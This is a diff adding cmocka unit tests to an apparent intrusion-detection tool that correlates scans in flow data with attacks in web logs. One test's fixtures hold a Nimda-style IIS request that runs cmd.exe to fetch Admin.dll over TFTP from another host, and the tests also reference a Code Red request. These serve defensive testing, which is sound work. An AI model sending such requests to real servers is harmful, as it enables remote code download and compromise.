@@ -355,6 +355,35 @@ static void a_host_in_flows_and_logs_is_one_finding(void **state)
 	court_free(&c);
 }
 
+static void many_hosts_in_flows_and_logs_meet(void **state)
+{
+	enum { HOSTS = 60, EVERY_FLOWS = 2, EVERY_LOGS = 3 };
+	struct court c = court_of(NULL);
+	char host[ADDR_TEXT_BYTES];
+	size_t n_both = 0;
+	(void)state;
+	for (unsigned i = HOSTS; i-- > 0;) {
+		struct addr a = addr_v4(0x0a000001 + i);
+		addr_format(&a, host);
+		if (i % EVERY_FLOWS == 0)
+			scan(&c, host, 6);
+		if (i % EVERY_LOGS == 0)
+			see(&c, asked(host, "11.0.0.2", CODE_RED_2, 404, NOON_S, i + 1));
+	}
+	judge_all(&c);
+	assert_int_equal(c.findings.n, HOSTS / 2 + HOSTS / 3 - HOSTS / 6);
+	for (size_t i = 0; i < c.findings.n; i++) {
+		const struct finding *f = &c.findings.finding[i];
+		unsigned k = addr_low32(&f->host) - 0x0a000001;
+		bool is_of_flows = strstr(f->why, "did not answer");
+		assert_true(is_of_flows == (k % EVERY_FLOWS == 0));
+		assert_true((f->n_attacks == 1) == (k % EVERY_LOGS == 0));
+		n_both += is_of_flows && f->n_attacks == 1;
+	}
+	assert_int_equal(n_both, HOSTS / 6);
+	court_free(&c);
+}
+
 /* What the findings say, as text; order and repetition must not show in it. */
 static void tell(const struct court *c, char *room, size_t size)
 {
@@ -455,6 +484,29 @@ static void many_attackers_are_all_kept(void **state)
 	court_free(&c);
 }
 
+/* One attacker names a quarter of a million others: that must not hide who comes after. */
+static void names_crowd_nobody_out(void **state)
+{
+	struct court c = court_of(NULL);
+	size_t n_senders = 0;
+	(void)state;
+	for (uint32_t i = 0; i < ATTACKS_MAX + 10; i++) {
+		char target[120], named[ADDR_TEXT_BYTES];
+		struct addr a = addr_v4(0x0b000000 + i);
+		(void)snprintf(target, sizeof target,
+			"/c/winnt/system32/cmd.exe?/c+tftp+-i+%s+GET+Admin.dll",
+			addr_format(&a, named));
+		see(&c, asked("10.0.0.1", "10.0.0.2", target, 404, NOON_S, i + 1));
+	}
+	see(&c, asked("10.0.0.3", "10.0.0.2", CODE_RED_2, 404, NOON_S, ATTACKS_MAX + 11));
+	judge_all(&c);
+	assert_true(c.findings.n < ATTACKS_MAX / 2);
+	for (size_t i = 0; i < c.findings.n; i++)
+		n_senders += addr_low32(&c.findings.finding[i].host) >> 24 == 10;
+	assert_int_equal(n_senders, 2);
+	court_free(&c);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -469,9 +521,11 @@ int main(void)
 		cmocka_unit_test(a_forged_header_accuses_nobody),
 		cmocka_unit_test(declared_scanners_and_outsiders_keep_their_class),
 		cmocka_unit_test(a_host_in_flows_and_logs_is_one_finding),
+		cmocka_unit_test(many_hosts_in_flows_and_logs_meet),
 		cmocka_unit_test(order_parts_and_repetition_change_nothing),
 		cmocka_unit_test(rows_that_both_parts_saw_count_once),
 		cmocka_unit_test(many_attackers_are_all_kept),
+		cmocka_unit_test(names_crowd_nobody_out),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
